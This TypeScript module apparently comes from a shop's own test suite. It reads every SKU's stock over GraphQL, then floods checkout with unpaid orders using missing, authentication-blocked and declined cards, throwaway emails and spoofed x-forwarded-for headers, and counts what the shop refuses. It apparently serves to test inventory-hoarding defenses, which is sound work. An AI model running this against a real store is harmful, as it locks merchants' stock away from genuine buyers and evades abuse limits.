import { readOperation } from "@shop/values/operations";
import type { Shopper } from "../src/shopper.ts";
import { key, address } from "../src/shopping.ts";

/** What can be bought of each SKU of the shop. */
export async function stockOf(guest: Shopper): Promise<Map<string, number>> {
  const units = new Map<string, number>();
  for (let after: string | null = null; ;) {
    const { search }: { search: StockPage } = await guest.get(
      `query ($after: String) { search(first: 100, after: $after) {
        nodes { variants { sku availability { quantity } } } pageInfo { hasNextPage endCursor } } }`,
      { after },
    );
    for (const { variants } of search.nodes) {
      for (const { sku, availability } of variants) units.set(sku, availability.quantity);
    }
    if (!search.pageInfo.hasNextPage) return units;
    after = search.pageInfo.endCursor;
  }
}

type StockPage = {
  nodes: { variants: { sku: string; availability: { quantity: number } }[] }[];
  pageInfo: { hasNextPage: boolean; endCursor: string };
};

/** How the attacker doesn't pay: names no card, one that the bank asks about for ever, or one that is declined. */
const cards = [null, "pm_card_authenticationRequired", "pm_card_chargeDeclined"] as const;

type Line = { sku: string; quantity: number };

/**
 * Orders all there is of everything, under an e-mail of its own each time, from these addresses, in each of the ways of not
 * paying: in carts of fifty lines, whole stocks, then shares of them; and in carts of four lines, as much as the rules allow.
 * Several addresses share the work. Gives what was refused, and how many orders were placed.
 */
export async function attackFrom(url: string, addresses: string[], stock: ReadonlyMap<string, number>) {
  const refusals = new Map<string, number>();
  const orders = [
    ...[1, 0.05, 0].flatMap((share) =>
      cartsOf(stock, 50, (units) => Math.min(999, Math.floor(units * share))),
    ),
    ...cartsOf(stock, 4, (units) => Math.min(5, Math.floor(units / 2))),
  ].flatMap((lines) => cards.map((card) => ({ lines, card })));
  let placed = 0;
  await Promise.all(
    addresses.map(async (from, turn) => {
      const mine = orders.filter((_, at) => at % addresses.length === turn);
      // Side by side, as a rush would come, but no more than sockets at a time.
      for (let at = 0; at < mine.length; at += 20) {
        await Promise.all(mine.slice(at, at + 20).map(({ lines, card }) => order(from, lines, card)));
      }
    }),
  );
  return { refusals, placed };

  async function order(from: string, lines: Line[], card: string | null) {
    const { cartCreate } = await send(from, "cart-create", { input: { lines } });
    if (!cartCreate?.cart) return;
    const input = {
      ...{ cartId: cartCreate.cart.id, email: `${key()}@evil.test`, shippingAddress: address },
      ...{ shippingOptionId: "standard", idempotencyKey: key() },
      ...(card ? { paymentMethod: { token: card } } : {}),
    };
    const { checkout } = await send(from, "checkout-lean", { input });
    if (checkout?.order) placed++;
    for (const { code } of checkout?.userErrors ?? []) refusals.set(code, (refusals.get(code) ?? 0) + 1);
  }

  async function send(from: string, name: string, variables: object) {
    const answer = await fetch(url, {
      method: "POST",
      headers: { "content-type": "application/json", "x-forwarded-for": from },
      body: JSON.stringify({ query: readOperation(name), variables }),
    });
    const { data } = (await answer.json()) as { data: Payloads | null };
    return data ?? {};
  }
}

type Payloads = {
  cartCreate?: { cart: { id: string } | null };
  checkout?: { order: object | null; userErrors: { code: string }[] };
};

/** Of each SKU that there is, as much as `units` says but one at least, in carts of so many lines. */
function cartsOf(
  stock: ReadonlyMap<string, number>,
  lines: number,
  unitsOf: (units: number) => number,
): Line[][] {
  const all = [...stock].flatMap(([sku, units]) =>
    units > 0 ? [{ sku, quantity: Math.max(1, unitsOf(units)) }] : [],
  );
  return Array.from({ length: Math.ceil(all.length / lines) }, (_, at) =>
    all.slice(at * lines, (at + 1) * lines),
  );
}
